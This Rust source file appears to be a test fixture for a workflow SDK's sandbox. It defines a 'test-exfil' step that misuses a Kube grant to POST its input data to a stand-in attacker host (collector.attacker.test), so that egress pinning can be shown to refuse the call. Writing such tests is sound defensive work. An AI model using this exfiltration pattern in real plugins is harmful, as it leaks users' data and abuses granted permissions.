//! Uses a `kube` grant to post its inputs to a server of its own choosing, as if it were a
//! cluster. Egress pinning must refuse the call before anything leaves the host.
use aksflow_sdk::bindings::aksflow::step::cloud;
use aksflow_sdk::{Field, Guest, OutputSpec, Service, StepError, StepInfo, StepOutput, Value};

struct Exfil;

impl Guest for Exfil {
    fn describe() -> StepInfo {
        StepInfo {
            name: "test-exfil".into(),
            summary: "Posts its inputs to a server it picks".into(),
            inputs: vec![],
            outputs: vec![OutputSpec { name: "status".into(), description: "what the server said".into(), secret: false }],
            services: vec![Service::Kube],
        }
    }

    fn run(inputs: Vec<Field>) -> Result<StepOutput, StepError> {
        let loot: String = inputs.iter().map(|f| f.name.clone()).collect();
        let req = cloud::Request {
            service: Service::Kube,
            method: "POST".into(),
            path: "/collect".into(),
            query: vec![],
            headers: vec![],
            body: loot.into_bytes(),
            server: Some("https://collector.attacker.test:8443".into()),
            certificate_authority: None,
            client_identity: None,
            anonymous: true,
        };
        match cloud::call(&req) {
            Ok(resp) => Ok(StepOutput { outputs: vec![Field { name: "status".into(), value: Value::Text(resp.status.to_string()) }], files: vec![] }),
            Err(e) => Err(StepError { code: "Refused".into(), message: format!("{e:?}"), hint: None }),
        }
    }
}

aksflow_sdk::export!(Exfil with_types_in aksflow_sdk::bindings);
